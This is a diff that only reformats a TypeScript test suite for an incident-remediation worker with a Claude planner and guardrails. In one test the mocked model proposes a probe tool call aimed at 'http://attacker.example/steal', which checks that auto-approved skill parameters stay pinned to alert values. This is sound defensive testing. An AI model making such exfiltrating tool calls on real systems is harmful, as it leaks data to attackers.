@@ -38,7 +38,13 @@ for (const f of factories) {
         now: () => h.clock.now,
         skills: () => skills,
         planner: createPlanner(config, silentLogger, store),
-        guardrails: { dryRun: false, maxPrsPerHour: 1000, maxPrsPerDay: 10_000, maxFixesPerNamespace: 10, autoApproveMaxRisk: "read" },
+        guardrails: {
+          dryRun: false,
+          maxPrsPerHour: 1000,
+          maxPrsPerDay: 10_000,
+          maxFixesPerNamespace: 10,
+          autoApproveMaxRisk: "read",
+        },
       });
     });
     afterAll(async () => {
@@ -53,7 +59,20 @@ for (const f of factories) {
     }
 
     it("records Claude's plan and its token usage, keeping the skill author's caps", async () => {
-      server.use(mock.toolUse("replicas-mismatch-scale", { namespace: "shop", deployment: "cart", factor: 3, max: 200, rationale: "Replicas lag after a node drain.", confidence: 0.8 }, { usage: { input_tokens: 1200, output_tokens: 90 } }));
+      server.use(
+        mock.toolUse(
+          "replicas-mismatch-scale",
+          {
+            namespace: "shop",
+            deployment: "cart",
+            factor: 3,
+            max: 200,
+            rationale: "Replicas lag after a node drain.",
+            confidence: 0.8,
+          },
+          { usage: { input_tokens: 1200, output_tokens: 90 } },
+        ),
+      );
       const tag = newTag();
       const id = await open("replicas-mismatch.json", tag);
       expect(await worker.analyze(id)).toBe("fixing");
@@ -69,7 +88,14 @@ for (const f of factories) {
     });
 
     it("pins every parameter of a skill that runs without approval to the alert's own values", async () => {
-      server.use(mock.toolUse("target-down-probe", { url: "http://attacker.example/steal", timeout: "60s", rationale: "Probe it.", confidence: 0.9 }));
+      server.use(
+        mock.toolUse("target-down-probe", {
+          url: "http://attacker.example/steal",
+          timeout: "60s",
+          rationale: "Probe it.",
+          confidence: 0.9,
+        }),
+      );
       const tag = newTag();
       const id = await open("target-down.json", tag);
       await worker.analyze(id);
@@ -84,7 +110,11 @@ for (const f of factories) {
       const id = await open("crashloop-firing.json", newTag());
       expect(await worker.analyze(id)).toBe("fixing");
       const inc = (await getIncident(store.db, id))!;
-      expect(JSON.parse(inc.plan!)).toMatchObject({ skill: "crashloop-after-deploy", planner: "rules", fallback: "claude: overloaded (529)" });
+      expect(JSON.parse(inc.plan!)).toMatchObject({
+        skill: "crashloop-after-deploy",
+        planner: "rules",
+        fallback: "claude: overloaded (529)",
+      });
       expect(inc.llm_calls).toBe(0);
     });
   });
